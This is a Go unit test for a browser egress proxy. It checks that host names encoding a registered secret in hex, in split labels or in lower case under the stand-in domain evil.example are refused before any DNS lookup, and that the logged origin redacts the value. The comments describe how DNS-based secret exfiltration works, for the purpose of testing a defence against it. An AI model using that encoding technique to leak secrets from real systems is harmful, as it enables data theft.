package egress

import (
	"bufio"
	"context"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"testing"

	"github.com/durable-browser/durable-browser/internal/netguard"
	"github.com/durable-browser/durable-browser/internal/redact"
)

// namesResolver records every name it is asked and answers none: no
// lookup reaches a real server.
type namesResolver struct {
	mu    sync.Mutex
	names []string
}

func (r *namesResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	r.mu.Lock()
	r.names = append(r.names, host)
	r.mu.Unlock()
	return nil, errors.New("no such host")
}

func (r *namesResolver) asked() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.names...)
}

// A page on the secret's own site that names a host spelling the secret
// (a WebSocket or fetch to <hex of it>.evil.example) would have the
// worker's resolver send the secret to evil.example's name servers. The
// proxy searches the host name of every CONNECT and plain-http request
// before any lookup and refuses it (rule secret); the resolver never hears
// the name. Other names are still looked up (the control).
func TestProxySearchesHostsBeforeLookup(t *testing.T) {
	const secret = "dns-Exfil-Secret-Value-8842"
	h := hex.EncodeToString([]byte(secret))
	r := &namesResolver{}
	p, recorded := startRecording(t, Options{
		Policy:   &netguard.Policy{},
		Resolver: r,
		Dial: func(context.Context, string, string) (net.Conn, error) {
			return nil, errors.New("the test dials nothing")
		},
	})
	p.Arm((&redact.Matcher{}).With(redact.Secret{Name: "PW", Value: secret, Origins: []string{"https://a.example"}}))

	hosts := []string{
		h + ".evil.example", // wss://<hex>.evil.example
		strings.ToUpper(h[:20]) + "." + h[20:] + ".evil.example", // split into labels, upper case
		strings.ToLower(secret) + ".evil.example",                // the value itself, as a browser lower-cases it
	}
	for _, host := range hosts {
		if code := connect(t, p.Addr(), host+":443"); code != http.StatusForbidden {
			t.Errorf("CONNECT %s: %d, want 403", host, code)
		}
		if code := plainGet(t, p.Addr(), "http://"+host+"/"); code != http.StatusForbidden {
			t.Errorf("GET http://%s/: %d, want 403", host, code)
		}
	}
	// The control: a name without the secret is looked up (and, answered
	// by nobody, refused as unresolved).
	if code := connect(t, p.Addr(), "benign.evil.example:443"); code != http.StatusForbidden {
		t.Errorf("CONNECT benign.evil.example: %d, want 403", code)
	}
	if got := r.asked(); len(got) != 1 || got[0] != "benign.evil.example" {
		t.Fatalf("the resolver was asked %q, want only benign.evil.example", got)
	}
	blocked := recorded()
	if len(blocked) != 2*len(hosts)+1 {
		t.Fatalf("blocked %+v", blocked)
	}
	for i, b := range blocked[:2*len(hosts)] {
		shown := b.Origin + " " + b.Message
		if b.Rule != RuleSecret || b.Secret != "PW" || !strings.Contains(b.Origin, "[redacted].evil.example") ||
			strings.Contains(strings.ToLower(shown), strings.ToLower(secret[:8])) || strings.Contains(shown, h[:8]) || strings.Contains(shown, h[len(h)-8:]) {
			t.Errorf("blocked[%d] = %+v, want rule secret naming PW, without the value", i, b)
		}
	}
	if blocked[len(blocked)-1].Rule != string(netguard.RuleUnresolve) {
		t.Errorf("the control was refused by %+v, want unresolved", blocked[len(blocked)-1])
	}
}

// plainGet sends an absolute-form GET to the proxy and returns the status.
func plainGet(t *testing.T, proxy, rawURL string) int {
	t.Helper()
	c, err := net.Dial("tcp", proxy)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	host := strings.TrimPrefix(rawURL, "http://")
	host = host[:strings.Index(host, "/")]
	fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", rawURL, host)
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	return resp.StatusCode
}
